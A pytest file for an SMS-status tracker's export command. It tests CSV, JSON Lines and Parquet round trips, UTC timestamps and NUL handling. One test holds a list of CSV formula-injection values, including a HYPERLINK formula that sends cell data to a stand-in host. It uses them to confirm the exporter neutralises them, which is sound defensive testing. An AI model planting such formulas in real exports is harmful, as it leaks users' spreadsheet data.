"""Exports round-trip: reading the file back gives the rows that were exported."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from datetime import UTC, datetime, timedelta

import pyarrow.parquet as pq
import pytest

from tests.support import run_cli
from tracker.application import Status
from tracker.bootstrap import open_tracker, open_views
from tracker.config import Settings
from tracker.domain.message import Message
from tracker.domain.status import Report
from tracker.read import export
from tracker.read.models import NO_KNOWN_STATE
from tracker.views.projector import Projector

MESSAGES = 100_000
T0 = datetime(2026, 5, 1, tzinfo=UTC)


@pytest.fixture(scope="module")
def big_store(tmp_path_factory):
    """100,000 messages (one report each, states varied), projected."""
    url = f"sqlite:///{tmp_path_factory.mktemp('export') / 'tracker.db'}"
    tracker = open_tracker(Settings(database_url=url))
    states = ["send", "deliver", "read", "expired", "odd"]
    for start in range(0, MESSAGES, 5000):
        messages = [Message(n) for n in range(start, start + 5000)]
        for message in messages:
            message.receive(
                Report(states[message.id_sms % 5], ""), T0 + timedelta(seconds=message.id_sms)
            )
        tracker.events.put([e for m in messages for e in m.collect_events()])
    views = open_views(tracker)
    Projector(tracker, views, page_size=5000).catch_up()
    yield url, tracker, views
    tracker.close()


def as_csv(row: dict) -> dict:
    """What CSV, which has no types, makes of a row: booleans as true/false, a missing state as
    its label, any other None as an empty cell, everything else as its text."""
    cells = {}
    for k, v in row.items():
        if v is None:
            cells[k] = NO_KNOWN_STATE if k == "state" else ""
        elif isinstance(v, bool):
            cells[k] = "true" if v else "false"
        else:
            cells[k] = str(v)
    return cells


def typed(row: dict) -> dict:
    """What Parquet keeps of a row: its times as UTC instants, not text."""
    return {k: datetime.fromisoformat(v) if k in export.TIMES and v else v for k, v in row.items()}


def test_messages_round_trip_through_csv_jsonl_and_parquet(big_store, tmp_path):
    url, _, views = big_store
    expected = list(export.message_rows(views))
    assert len(expected) == MESSAGES
    for fmt in export.FORMATS:
        out = tmp_path / f"messages.{fmt}"
        result = run_cli(url, "export", "messages", "--format", fmt, "--out", str(out))
        assert result.returncode == 0, result.stderr
        assert f"wrote {MESSAGES:,} messages" in result.stdout
        assert re.search(
            r"exporting messages .*100%.* 100,000 messages .*messages/s", result.stderr
        )
        if fmt == "csv":
            with out.open(newline="") as f:
                back = list(csv.DictReader(f))
            assert back == [as_csv(r) for r in expected]
        elif fmt == "jsonl":
            back = [json.loads(line) for line in out.read_text().splitlines()]
            assert back == expected
        else:
            assert pq.read_table(out).to_pylist() == [typed(r) for r in expected]


def test_csv_says_true_false_and_no_known_state_where_json_says_true_false_and_null(big_store):
    _, _, views = big_store
    lines = b"".join(export.encode(export.message_rows(views), export.MESSAGE_FIELDS, "csv"))
    rows = list(csv.DictReader(io.StringIO(lines.decode())))
    by_id = {int(r["id_sms"]): r for r in rows}
    assert (by_id[2]["state"], by_id[2]["final"], by_id[2]["conflict"]) == ("read", "true", "false")
    assert (by_id[0]["state"], by_id[0]["final"]) == ("send", "false")
    assert by_id[4]["state"] == NO_KNOWN_STATE  # its only report's state, "odd", is unknown
    jsonl = b"".join(export.encode(export.message_rows(views), export.MESSAGE_FIELDS, "jsonl"))
    assert json.loads(jsonl.splitlines()[4])["state"] is None


def test_times_are_iso_8601_utc_with_z_in_csv_and_jsonl_and_utc_instants_in_parquet(
    big_store, tmp_path
):
    _, _, views = big_store
    row = next(export.message_rows(views))
    assert row["first_received_at"] == "2026-05-01T00:00:00.000000Z"  # T0, fixed width
    assert row["delivered_at"] is None and row["instant"] is None  # "send" with no time
    ten = list(itertools.islice(export.message_rows(views), 10))
    out = tmp_path / "ten.parquet"
    export.write(iter(ten), export.MESSAGE_FIELDS, "parquet", out)
    table = pq.read_table(out)
    for name in ("instant", "first_received_at", "last_received_at", "delivered_at"):
        assert str(table.schema.field(name).type) == "timestamp[us, tz=UTC]"
    assert table.column("last_received_at")[9].as_py() == T0 + timedelta(seconds=9)


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
           "'kept"]  # fmt: skip


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(sqlite_url, tmp_path):
    """OWASP's CSV injection advice: the cell gets a ' in front (so does one that already
    starts with ', so that dropping one leading ' always gives the value back). JSON Lines and
    Parquet are not read as formulas and keep every value as it was."""
    tracker = open_tracker(Settings(database_url=sqlite_url))
    tracker.record([Status(1, value, value) for value in HOSTILE] + [Status(2, "send", "")])
    for fmt in export.FORMATS:
        export.write(export.report_rows(tracker), export.REPORT_FIELDS, fmt, tmp_path / fmt)
    tracker.close()
    with (tmp_path / "csv").open(newline="") as f:
        cells = [(r["state"], r["time"]) for r in csv.DictReader(f)]
    assert cells == [("'" + v, "'" + v) for v in HOSTILE] + [("send", "")]
    assert [c.removeprefix("'") for c, _ in cells[:-1]] == HOSTILE
    jsonl = [json.loads(line) for line in (tmp_path / "jsonl").read_text().splitlines()]
    parquet = pq.read_table(tmp_path / "parquet").to_pylist()
    for rows in (jsonl, parquet):
        assert [(r["state"], r["time"]) for r in rows] == [(v, v) for v in HOSTILE] + [("send", "")]


def test_reports_export_every_stored_report(tracker, tmp_path, database_url):
    tracker.record([Status(1, "send", ""), Status(1, "read", "2026-05-01 12:00:00")])
    tracker.record([Status(2, "deliver", "junk")])
    out = tmp_path / "reports.jsonl"
    result = run_cli(database_url, "export", "reports", "--format", "jsonl", "--out", str(out))
    assert result.returncode == 0, result.stderr
    back = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(r["id_sms"], r["state"], r["time"], r["outcome"]) for r in back] == [
        (1, "send", "", "applied"), (1, "read", "2026-05-01 12:00:00", "applied"),
        (2, "deliver", "junk", "applied"),
    ]  # fmt: skip
    assert back[1]["instant"] == "2026-05-01T09:00:00.000000Z"
    assert all(
        re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", r["received_at"]) for r in back
    )


def test_reports_are_exported_as_stored_nuls_and_all(tracker, tmp_path, database_url):
    """The views take a NUL as U+FFFD (PostgreSQL text holds none); the export, like the
    history, gives the report as it came: two reports that differ only there stay two."""
    tracker.record([Status(9, "se\x00nd", "", raw='{"x": "\x00"}'), Status(9, "se\ufffdnd", "")])
    out = tmp_path / "reports.jsonl"
    result = run_cli(database_url, "export", "reports", "--format", "jsonl", "--out", str(out))
    assert result.returncode == 0, result.stderr
    back = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(r["state"], r["raw"]) for r in back] == [
        ("se\x00nd", '{"x": "\x00"}'), ("se\ufffdnd", None)
    ]  # fmt: skip


def test_export_refuses_what_it_cannot_do(sqlite_url, tmp_path):
    wrong = run_cli(sqlite_url, "export", "everything", "--out", str(tmp_path / "x"))
    assert (wrong.returncode, "export messages or reports" in wrong.stderr) == (2, True)
    fmt = run_cli(sqlite_url, "export", "messages", "--format", "xml", "--out", str(tmp_path / "x"))
    assert (fmt.returncode, "--format must be one of" in fmt.stderr) == (2, True)
